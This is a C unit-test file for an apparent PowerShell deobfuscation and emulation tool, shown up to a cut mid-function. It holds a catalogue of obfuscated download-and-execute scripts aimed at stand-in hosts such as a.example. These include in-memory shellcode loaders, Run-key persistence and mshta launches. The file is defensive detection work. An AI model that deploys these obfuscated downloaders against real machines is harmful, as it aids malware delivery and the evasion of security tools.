/* What scripts would do, one row a technique of hiding it. Scripts are inert: hosts do not exist, programs neither. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/text.h"
#include "make/paper.h"

static const struct technique {
    const char *name, *script;
    const char *want[5]; /* each stands in what is told */
} techniques[] = {
    {"code in memory by declared functions",
     "Add-Type @'\nusing System;\npublic class K {\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n"
     "[DllImport(\"ntdll\", EntryPoint=\"RtlMoveMemory\")]\npublic static extern void Mv(IntPtr a, byte[] b, uint n);\n"
     "[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);}\n'@\n"
     "$b=[Convert]::FromBase64String('dGV4dA==');$m=[K]::VirtualAlloc(0,$b.Length,0x3000,0x40);[K]::Mv($m,$b,4);[K]::CreateThread(0,0,$m,0,0,0);for(;;){sleep 60}",
     {"load library=ntdll function=RtlMoveMemory via=Add-Type", "run command=code in memory path=memory via=CreateThread flow=decoded computed", "code in memory"}},
    {"a byte at a time",
     "$w=Add-Type -Name q -Namespace q -PassThru -MemberDefinition '[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(int a); [DllImport(\"msvcrt\")] static extern IntPtr memset(int a); "
     "[DllImport(\"kernel32\")] static extern IntPtr CreateThread(int a);'\n[byte[]]$z=0x74,0x65;$m=$w::VirtualAlloc(0,2,0x3000,0x40);for($i=0;$i -lt 2;$i++){$w::memset([IntPtr]($m.ToInt32()+$i),$z[$i],1)}\n"
     "$w::CreateThread(0,0,$m,0,0,0)",
     {"run command=code in memory path=memory via=CreateThread"}},
    {"delegate of a function pointer",
     "$b=[Convert]::FromBase64String('dGV4dA==');$m=[Runtime.InteropServices.Marshal];$va=$m::GetDelegateForFunctionPointer((nowhere kernel32 VirtualAlloc),$t)\n$p=$va.Invoke([IntPtr]::Zero,$b.Length,0x3000,0x40)\n"
     "$m::Copy($b,0,$p,$b.Length);$m::GetDelegateForFunctionPointer($p,$t).Invoke([IntPtr]::Zero)",
     {"run command=code in memory path=memory via=Delegate.Invoke flow=decoded"}},
    {"library of .NET in memory",
     "$t='Net.WebClient' -as [type]\n$w=[Activator]::CreateInstance($t)\n$a=[Reflection.Assembly]::Load($w.DownloadData('http://a.example/x'))\n$a.GetType('X.Y').GetMethod('Z').Invoke($null,$null)",
     {"download url=http://a.example/x", "load library=memory via=Assembly.Load flow=network", "run command=code in memory path=memory via=Assembly.Load flow=network"}},
    {"a static method of a library in memory",
     "[AppDomain]::CurrentDomain.Load([Convert]::FromBase64String('TVo=')) | Out-Null\n[Windows.Forms.Application]::DoEvents();[Quiet.Class1]::Go()",
     {"run command=code in memory path=memory via=Assembly.Load flow=decoded"}},
    {"type by its name",
     "$w=[Activator]::CreateInstance([Type]::GetType('System.Net.WebClient, System'));$w.DownloadFile('http://a.example/x','C:\\t\\x.exe')",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"plain",
     "(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"backticks",
     "i`e`x \"(n`ew-obj`ect net.webcl`ient).d`ownl`oadfile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"case and blanks",
     "( nEW-oBJECT\tsYSTEM.nET.wEBcLIENT ).\"dOWNLOADfILE\"( 'http://a.example/x' , 'C:\\t\\x.exe' )",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"concatenation",
     "$u='ht'+'tp://'+'a.exa'+'mple/x';(New-Object ('Net.'+'WebClient')).('Down'+'loadFile').Invoke($u,'C:\\t\\x.exe')",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"format operator",
     "&(\"{1}{0}{2}\" -f '-Ob','New','ject') (\"{0}{1}\"-f 'Net.Web','Client') | %{ "
     "$_.(\"{2}{0}{1}\"-f'load','File','Down').Invoke((\"{1}{0}\" -f 'a.example/x','http://'),'C:\\t\\x.exe') }",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"nested format index",
     "$p=\"{0}{2}{1}\" -f \"htt\",(\"{1}{0}\" -f \"/x\",\"example\"),\"p://a.\";iwr $p -OutFile C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"replace operator",
     "$c='(New-Object Net.WebClient).DownloadFile(QhttpZZZa.example/xQ,QC:\\t\\x.exeQ)' -replace 'ZZZ','://' -creplace "
     "'Q',[string][char]39;iex $c",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"replace method",
     "iex ('(New-Object Net.WebClient).DownloadFile(~http://a.example/x~,~C:\\t\\x.exe~)'.Replace('~',[char]39+''))",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"split",
     "$a='http://a.example/x@http://b.example/y@http://c.example/z'.Split('@');foreach($u in $a){try{(New-Object "
     "Net.WebClient).DownloadFile($u,'C:\\t\\x.exe')}catch{}}",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "url=http://b.example/y", "url=http://c.example/z"}},
    {"split operator",
     "'http://a.example/x!http://b.example/y' -split '!' | %{ try { iwr -Uri $_ -OutFile C:\\t\\x.exe } catch {} }",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "url=http://b.example/y"}},
    {"join of characters",
     "iex "
     "(-join((40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,"
     "111,97,100,70,105,108,101,40,39,104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101,47,120,39,44,39,67,58,92,116,92,"
     "120,46,101,120,101,39,41)|%{[char]$_}))",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"join of characters from text",
     "-join('40~78~101~119~45~79~98~106~101~99~116~32~78~101~116~46~87~101~98~67~108~105~101~110~116~41~46~68~111~119~110~108~"
     "111~97~100~70~105~108~101~40~39~104~116~116~112~58~47~47~97~46~101~120~97~109~112~108~101~47~120~39~44~39~67~58~92~116~92~"
     "120~46~101~120~101~39~41'.Split('~')|ForEach-Object{[char][int]$_})|iex",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"hexadecimal",
     "$h='"
     "284e65772d4f626a656374204e65742e576562436c69656e74292e446f776e6c6f616446696c652827687474703a2f2f612e6578616d706c652f78272c2"
     "7433a5c745c782e6578652729';$s='';for($i=0;$i -lt $h.Length;$i+=2){$s+=[char][convert]::ToByte($h.Substring($i,2),16)};iex "
     "$s",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"octal and binary",
     "iex (-join(('50 116 145 167 55 117 142 152 145 143 164 40 116 145 164 56 127 145 142 103 154 151 145 156 164 51 56 104 157 "
     "167 156 154 157 141 144 106 151 154 145 50 47 150 164 164 160 72 57 57 141 56 145 170 141 155 160 154 145 57 170 47 54 47 "
     "103 72 134 164 134 170 56 145 170 145 47 51' -split ' ')|%{[char][convert]::ToInt32($_,8)}))",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"xor",
     "$k=0x2A;$b=[convert]::FromBase64String('"
     "AmRPXQdlSEBPSV4KZE9eBH1PSGlGQ09EXgMEbkVdREZFS05sQ0ZPAg1CXl5aEAUFSwRPUktHWkZPBVINBg1pEHZedlIET1JPDQM=');iex([Text.Encoding]:"
     ":ASCII.GetString(($b|%{[byte]($_ -bxor $k)})))",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "decode how=base64"}},
    {"reversed text",
     "$s=')''exe.x\\t\\:C'',''x/elpmaxe.a//:ptth''(eliFdaolnwoD.)tneilCbeW.teN tcejbO-weN(';iex (-join $s[-1..-($s.Length)])",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"reversed array",
     "$c=')''exe.x\\t\\:C'',''x/elpmaxe.a//:ptth''(eliFdaolnwoD.)tneilCbeW.teN "
     "tcejbO-weN('.ToCharArray();[array]::Reverse($c);iex (-join $c)",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"right to left",
     "iex (-join[regex]::Matches(')''exe.x\\t\\:C'',''x/elpmaxe.a//:ptth''(eliFdaolnwoD.)tneilCbeW.teN "
     "tcejbO-weN(','.','RightToLeft'))",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"base64 utf16",
     "iex "
     "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
     "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgA"
     "vAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==')))",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "decode how=base64"}},
    {"base64 utf8",
     "$d=[System.Convert]::FromBase64String("
     "\"KE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRGaWxlKCdodHRwOi8vYS5leGFtcGxlL3gnLCdDOlx0XHguZXhlJyk=\");[System.Text."
     "Encoding]::UTF8.GetString($d)|Invoke-Expression",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"deflate",
     "(New-Object IO.StreamReader((New-Object "
     "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('0/"
     "BLLdf1T8pKTS5R8Est0QtPTXLOyUzNK9HUc8kvz8vJT0xxy8xJ1VDPKCkpsNLXT9RLrUjMLchJ1a9Q11F3toopiakACqWqawIA'),[IO.Compression."
     "CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()|iex",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "decode how=deflate"}},
    {"gzip",
     "$s=New-Object "
     "IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA9PwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/"
     "LyU9MccvMSdVQzygpKbDS10/US61IzC3ISdWvUNdRd7aKKYmpAAqlqmsCADMAK0lKAAAA'));IEX (New-Object IO.StreamReader(New-Object "
     "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();",
     {"download url=http://a.example/x path=C:\\t\\x.exe", "decode how=gzip"}},
    {"letters of PSHOME",
     "&($PSHOME[4]+$PSHOME[30]+'x') \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"letters of ShellId",
     ".($ShellId[1]+$ShellId[13]+'x') \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"letters of ComSpec",
     ".($env:ComSpec[4,24,25]-join'') \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"letters of a variable's name",
     "&((gv '*mdr*').Name[3,11,2]-join'') \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"letters of VerbosePreference",
     ".($VerbosePreference.ToString()[1,3]+'x'-join'') \"(New-Object "
     "Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"variable drive",
     "&((dir variable:*mdr*).Name[3,11,2]-join'') \"(New-Object "
     "Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"command by wildcard",
     "&(gcm *ke-ex*) \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"alias",
     "Set-Alias q Invoke-Expression;q \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"execution context",
     "$ExecutionContext.InvokeCommand.InvokeScript(\"(New-Object "
     "Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\")",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"script block",
     "&([ScriptBlock]::Create(\"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"))",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"variables by command",
     "sv x 'http://a.example/x';iwr (gv x).Value -o C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"environment as store",
     "$env:q='http://a.exam';$env:w='ple/x';curl ($env:q+$env:w) -OutFile C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"bits",
     "Import-Module BitsTransfer;Start-BitsTransfer -Source 'http://a.example/x' -Destination C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"request and response",
     "$r=[Net.HttpWebRequest]::Create('http://a.example/x');$s=(New-Object "
     "IO.StreamReader($r.GetResponse().GetResponseStream())).ReadToEnd();iex $s",
     {"download url=http://a.example/x", "run command=bytes of http://a.example/x via=Invoke-Expression flow=network unknown"}},
    {"download and run in memory",
     "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
     {"download url=http://a.example/x", "flow=network unknown"}},
    {"loop over addresses with a size check",
     "$u='http://a.example/1','http://b.example/2','http://c.example/3';foreach($a in $u){try{(New-Object "
     "Net.WebClient).DownloadFile($a,$env:TEMP+'\\q.exe');if((Get-Item ($env:TEMP+'\\q.exe')).Length -ge 40000){Start-Process "
     "($env:TEMP+'\\q.exe');break}}catch{}}",
     {"url=http://a.example/1", "url=http://b.example/2", "url=http://c.example/3",
      "run command=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe path=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe"}},
    {"one address by chance",
     "$u='http://a.example/1','http://b.example/2','http://c.example/3';iwr ($u|Get-Random) -OutFile C:\\t\\x",
     {"url=http://a.example/1", "url=http://b.example/2", "url=http://c.example/3"}},
    {"switch and functions",
     "function g($m,$n='x'){switch($m){'d'{return 'http://a.example/'+$n}default{return 'no'}}};iwr -Uri (g d) -OutFile "
     "C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"run key",
     "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name q -Value 'C:\\t\\x.exe'",
     {"registry action=write", "persist how=run-key"}},
    {"com shell", "$w=New-Object -ComObject WScript.Shell;$w.Run('C:\\t\\x.exe')", {"run command=C:\\t\\x.exe"}},
    {"library by program",
     "&('rund'+'ll32') C:\\t\\q.dll,Begin",
     {"run command=rundll32 C:\\t\\q.dll,Begin", "load library=C:\\t\\q.dll function=Begin"}},
    {"wmi",
     "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'C:\\t\\x.exe -q'",
     {"run command=C:\\t\\x.exe -q via=Win32_Process.Create"}},
    {"wmi class", "([wmiclass]'Win32_Process').Create('C:\\t\\x.exe -w')", {"run command=C:\\t\\x.exe -w"}},
    {"replica of 2019: letters split, one method by a text, break",
     "$Lqz='abc';$Mn = '337';$Kk='z';$p=$env:userprofile+'\\'+$Mn+'.exe';$Wn='y';$w=.('new-'+'obj'+'ect') "
     "nEt.`WEBcl`IEnt;$u='http://a.example/wp/1/@http://b.example/x2/@http://c.example/"
     "z'.('sP'+'lit').Invoke('@');$z='x';foreach($x in $u){try{$w.('Dow'+'nlo'+'adFi'+'le').Invoke($x, $p);$q='v';If "
     "((.('Get-'+'Item') $p).\"le`NgTH\" -ge 22000) {[Diagnostics.Process]::\"ST`ARt\"($p);$g='h';break;$v='j'}}catch{}}$d='k'",
     {"url=http://a.example/wp/1/", "url=http://b.example/x2/", "url=http://c.example/z", "via=Process.Start flow=network"}},
    {"replica of 2020: types in variables, brackets for slashes",
     "SEt-ITem (\"V\"+\"ARIaBLe:6Gu8\")  ([tyPe](\"{1}{2}{0}\"-F'dIreCTory','sYSt','Em.Io.') ); $x9=[TYpE](\"{0}{3}{1}{2}{4}\" "
     "-f 'SYsTEM.n','sErvIcEP','oIntmAn','Et.','AgER');$Zk='a'; ( geT-VARiAble (\"6g\"+\"u8\") -VaLUeo "
     ")::\"Cr`EAtEdIREC`TorY\"($HOME + (('{0}Ab{0}Cd{0}')-F[chAr]92)); ( vaRiABle x9 -vAlu )::\"SE`CURITyPROt`OCol\" = "
     "('Tl'+'s12');$Fe=$HOME+(('xYzAbxYzCdxYz').RePLAcE('xYz',[StRiNg][cHAr]92))+'q1'+('.dl'+'l');$Ur=('ht'+'tp:]['+'][a.example]"
     "['+'p]['+'@'+'htt'+'p:][][b.example][q').rEPlaCe((']['),[STrING]('/')).SPLIt('@');foreach($i in "
     "$Ur){try{(&('Ne'+'w-Obje'+'ct') SYsteM.net.WEBcLIENt).\"dO`wN`lOaDFIlE\"($i,$Fe);If((&('Get-I'+'tem') $Fe).lEngTH -ge "
     "30000){&('run'+'dll32') $Fe,('Con'+'trol_RunDLL');break}}catch{}}",
     {"url=http://a.example/p/", "url=http://b.example/q",
      "run command=rundll32 C:\\Users\\admin\\Ab\\Cd\\q1.dll,Control_RunDLL path=",
      "load library=C:\\Users\\admin\\Ab\\Cd\\q1.dll"}},
    {"an answer read piece by piece",
     "$r=[Net.WebRequest]::Create('http://a.example/x');$s=$r.GetResponse().GetResponseStream();$f=New-Object "
     "IO.FileStream(\"$env:APPDATA\\q.exe\",'Create');$b=New-Object byte[] "
     "4096;do{$n=$s.Read($b,0,$b.Length);$f.Write($b,0,$n)}while($n -gt 0);$f.Close();&\"$env:APPDATA\\q.exe\"",
     {"write path=C:\\Users\\admin\\AppData\\Roaming\\q.exe bytes=458752 flow=network",
      "run command=C:\\Users\\admin\\AppData\\Roaming\\q.exe path="}},
    {"an answer decrypted item by item",
     "$s=(New-Object Net.WebClient).DownloadData('http://a.example/x');for($i=0;$i -lt $s.Length;$i++){$s[$i]=$s[$i] -bxor "
     "65};[Reflection.Assembly]::Load($s)",
     {"load library=memory via=Assembly.Load flow=network unknown"}},
    {"assembly from memory",
     "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVogbm90IGEgcHJvZ3JhbQ=='))|Out-Null",
     {"load library=memory via=Assembly.Load flow=decoded computed", "child assembly ? MZ not a program"}},
    {"imported function",
     "Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint "
     "c, uint d);' -Name q -Namespace w",
     {"load library=kernel32.dll function=VirtualAlloc via=Add-Type"}},
    {"file from text",
     "[IO.File]::WriteAllBytes('C:\\t\\q.bin',[Convert]::FromBase64String('cGF5bG9hZCB0ZXh0'))",
     {"write path=C:\\t\\q.bin bytes=12 flow=decoded computed", "child q.bin ? payload text"}},
    {"waits and looks",
     "Start-Sleep -s 90;if((Get-Culture).Name -eq 'en-US'){iwr http://a.example/x -OutFile C:\\t\\x.exe}",
     {"wait seconds=90", "probe what=locale value=en-US", "download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"unknown goes on",
     "$z=Get-SomethingOdd 5;if($z.Ready){[Odd.Thing]::Go($z)};$null.foo();iwr http://a.example/x -OutFile C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"one lost statement",
     "$a = ) 'x';\n"
     "iwr http://a.example/x -OutFile C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"encoded inside",
     "powershell -e "
     "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgA"
     "vAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
     {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"secure string",
     "$s=ConvertTo-SecureString \"http://a.example/x\" -AsPlainText "
     "-Force;$p=[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s));"
     "iwr $p -OutFile C:\\t\\x.exe",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"job",
     "Start-Job {iwr http://a.example/x -OutFile C:\\t\\x.exe}|Wait-Job",
     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
    {"start process arguments",
     "saps cmd -ArgumentList '/c','mshta http://a.example/x' -WindowStyle Hidden",
     {"window=hidden", "download url=http://a.example/x method=GET via=mshta"}},
};

static void test_techniques(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(techniques); i++) {
        make_paper *p = make_paper_new(0);
        make_paper_script(p, sk_bytes_str(techniques[i].script));
        const char *told = make_paper_told(p);
        for (size_t k = 0; k < SK_COUNT(techniques[i].want) && techniques[i].want[k]; k++)
            if (!strstr(told, techniques[i].want[k])) {
                print_error("%s: no \"%s\" in\n%s", techniques[i].name, techniques[i].want[k], told);
                fail();
            }
        make_paper_free(p);
    }
}

static const struct {
    const char *script, *value;
} values[] = {
    {"1+2*3", "7"},
    {"7/2", "3.5"},
    {"6/2", "3"},
    {"-7%4", "-3"},
    {"'a'*3", "aaa"},
    {"'5'+3", "53"},
    {"5+'3'", "8"},
    {"[int]2.5", "2"},
    {"[int]3.5", "4"},
    {"[int]'0x1F'", "31"},
    {"0x10", "16"},
    {"1kb", "1024"},
    {"'abc'[1]", "b"},
    {"'abc'[-1]", "c"},
    {"(1..3)-join','", "1,2,3"},
    {"(3..1)-join''", "321"},
    {"'{0:X2}{1:D3}{2,4}' -f 255,7,'a'", "FF007   a"},
    {"'{0:N1}' -f 1234.56", "1,234.6"},
    {"'{{0}}' -f 1", "{0}"},
    {"'a1b2' -replace '\\d','#'", "a#b#"},
    {"'ab' -replace '(a)(b)','$2$1'", "ba"},
    {"'aBc' -creplace 'b','x'", "aBc"},
    {"'a,b;c' -split '[,;]' -join '|'", "a|b|c"},
    {"(1,2,3,4|?{$_ -gt 2})-join''", "34"},
    {"5 -band 3", "1"},
    {"5 -bor 3", "7"},
    {"5 -bxor 3", "6"},
    {"1 -shl 4", "16"},
    {"-bnot 0", "-1"},
    {"'abc' -like 'a*c'", "True"},
    {"'abc' -match 'b(.)' -and $matches[1] -eq 'c'", "True"},
    {"(1,2,3) -contains 2", "True"},
    {"2 -in 1,2", "True"},
    {"[string](1,2)", "1 2"},
    {"@(1).Count", "1"},
    {"@{a=5}.a", "5"},
    {"$x,$y=1,2;$x+$y", "3"},
    {"$a=1;$a+=2;$a", "3"},
    {"$i=0;$i++;(++$i)", "2"},
    {"\"a$(1+1)b\"", "a2b"},
    {"\"`\"x`t\"", "\"x\t"},
    {"@'\n"
     "a$b\n"
     "'@",
     "a$b"},
    {"$b=3;@\"\n"
     "a$b\n"
     "\"@",
     "a3"},
    {"[char]65+'b'", "Ab"},
    {"[char[]]'ab'-join'-'", "a-b"},
    {"'abc'.Substring(1)", "bc"},
    {"'abc'.Insert(1,'-')", "a-bc"},
    {"'abc'.Remove(1,1)", "ac"},
    {"'abc'.IndexOf('c')", "2"},
    {"'aXbX'.Split('X')[1]", "b"},
    {"' a '.Trim()", "a"},
    {"'7'.PadLeft(3,'0')", "007"},
    {"[math]::Pow(2,10)", "1024"},
    {"[convert]::ToString(255,16)", "ff"},
    {"[convert]::ToInt32('101',2)", "5"},
    {"function f($a,$b=2){$a*$b};f 4", "8"},
    {"function f{param([switch]$s,$n)if($s){$n}};f -s -n 9", "9"},
    {"&{param($q)$q+1} 4", "5"},
    {"try{throw 'x'}catch{\"c$_\"}", "cx"},
    {"$r='';foreach($q in 1..3){if($q -eq 2){continue};$r+=$q};$r", "13"},
    {"$n=0;do{$n++}while($n -lt 5);$n", "5"},
    {"switch(3){1{'a'}3{'b'}}", "b"},
    {"(5,3,4|sort)-join''", "345"},
    {"('b','a'|select -first 1)", "b"},
    {"[Text.Encoding]::ASCII.GetString([byte[]](72,105))", "Hi"},
    {"[Text.Encoding]::Unicode.GetString([Text.Encoding]::Unicode.GetBytes('hi'))", "hi"},
    {"$h=@{};$h['k']='v';$h.k", "v"},
    {"if(1 -eq 2){'a'}elseif(2 -eq 2){'b'}else{'c'}", "b"},
    {"'x' -eq 'X'", "True"},
    {"'x' -ceq 'X'", "False"},
    {"!$false", "True"},
    {"(1,(2,3))[1][0]", "2"},
    {"$null -eq $zz", "True"},
    {"('a','b').Length", "2"},
    {"(Get-Date).Year", "2021"},
    {"[regex]::Replace('aab','a+','x')", "xb"},
    {"('{0}'-f'a')+'b'", "ab"},
    {"\"${x}y\"", "y"},
    {"$f={$args[0]*2};&$f 4", "8"},
    {"[datetime]::Now.DayOfWeek -is [int]", "False"},
    {"[int][datetime]::Now.DayOfWeek", "2"},
    {"\"$((Get-Date).DayOfWeek)\"", "Tuesday"},
    {"(Get-Date).DayOfWeek -eq 'tuesday'", "True"},
    {"(Get-Date '2021-06-01') -gt '05/31/2021'", "True"},
    {"[datetime]::ParseExact('03/04/2021', 'dd/MM/yyyy', $null).Month", "4"},
    {"(Get-Date -Year 2020 -Month 2 -Day 29).ToString('d')", "2/29/2020"},
    {"(New-Object DateTime 2021,3,4).AddDays(-4).Day", "28"},
    {"Get-Date -UFormat '%Y-%m-%d'", "2021-01-26"},
    {"'a'+\n"
     "'b'",
     "ab"},
    {"(New-Object Text.StringBuilder).Append('q').Append(1).ToString()", "q1"},
    {"'café'.Length", "4"},
    {"'café'[3]", "é"},
    {"(0..2|%{'abc'[$_]})-join''", "abc"},
    {"$l=New-Object Collections.ArrayList;[void]$l.Add(4);$l.Count", "1"},
    {"[byte[]]$b=1,2,3;$b[0]=9;$b -join','", "9,2,3"},
    {"$o=[pscustomobject]@{N=3};$o.N", "3"},
    {"-join('a','b')", "ab"},
    {"-split 'a  b' -join '.'", "a.b"},
};

static void test_values(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(values); i++) {
        make_paper *p = make_paper_new(0);
        sk_bytes script = sk_text_bytes(p->arena, "$result=&{\n%s\n};[IO.File]::WriteAllText('C:\\t\\v',\"<$result>\")",
                                        values[i].script);
        make_paper_script(p, script);
        const char *told = make_paper_told(p), *want = sk_text_format(p->arena, "child v ? <%s>", values[i].value);
        if (!strstr(told, want)) {
            print_error("%s: no \"%s\" in\n%s", values[i].script, want, told);
            fail();
        }
        make_paper_free(p);
    }
}

/* Each ends by its budget, which is told, and what was done before counts. */
static const char *const endless[] = {"while($true){}",
                                      "for(;;){$a+=1}",
                                      "$a='x';while(1){$a+=$a}",
                                      "function f{f};f",
                                      "function f{f;f};while(1){f}",
                                      "$a=,1;for(;;){$a+=$a}",
                                      "1..100000000|%{$_}",
                                      "$a='x'*1000000;$b=$a*1000000;while(1){}",
                                      "iex ($a='while(1){}')",
                                      "$s='iex $s';while(1){iex $s}",
                                      "while(1){'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' -match '(a+)+b'}",
                                      "$h=@{};for($i=0;;$i++){$h[$i]=$i}",
                                      "do{[char[]]('x'*5000)|%{$_}}while(1)",
                                      "$x={&$x};&$x;while(1){}",
                                      "while(1){'a' -replace 'a','aa'}",
                                      "while(1){'{0}' -f ('x'*1000)}"};

static void test_endless(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(endless); i++) {
        make_paper *p = make_paper_new(200000);
        make_paper_script(p, sk_text_bytes(p->arena, "iwr http://a.example/x -OutFile C:\\t\\x.exe\n%s", endless[i]));
        assert_non_null(strstr(make_paper_told(p), "download url=http://a.example/x"));
        assert_true(sk_arena_used(p->arena) < 200u << 20);
        make_paper_free(p);
    }
}

/* Deep nests and long chains cost no stack. */
static void test_deep(void **state)
{
    static const char *const units[] = {"(",  "$(",   "@(", "{",   "[",    "\"$(", "!", "-",     "if(1){",
                                        "&{", "@{a=", "x(", "$a[", "'a'+", "$a.b", ",", "[int]", "1|"};
    (void)state;
    for (size_t i = 0; i < SK_COUNT(units); i++) {
        make_paper *p = make_paper_new(0);
        sk_buf text = sk_buf_new(p->arena, 4u << 20);
        for (unsigned k = 0; k < 20000; k++) sk_buf_str(&text, units[i]);
        sk_buf_str(&text, "1");
        make_paper_script(p, sk_buf_view(&text));
        make_paper_free(p);
    }
}

static void test_cut_everywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(techniques); i += 3) {
        sk_bytes script = sk_bytes_str(techniques[i].script);
        for (size_t len = 0; len < script.len; len += script.len / 40 + 1) {
            make_paper *p = make_paper_new(20000);
            make_paper_script(p, sk_slice(script, 0, len));
            make_paper_free(p);
        }
    }
}

static void test_same_twice(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(techniques); i += 5) {
        make_paper *a = make_paper_new(0), *b = make_paper_new(0);
        make_paper_script(a, sk_bytes_str(techniques[i].script));
        make_paper_script(b, sk_bytes_str(techniques[i].script));
        assert_string_equal(make_paper_told(a), make_paper_told(b));
        make_paper_free(a);
        make_paper_free(b);
    }
}

/* `$s += 'x'` and `$a += 1` copy only what is new. */
static void test_growing_is_linear(void **state)
{
    (void)state;
    make_paper *p = make_paper_new(0);
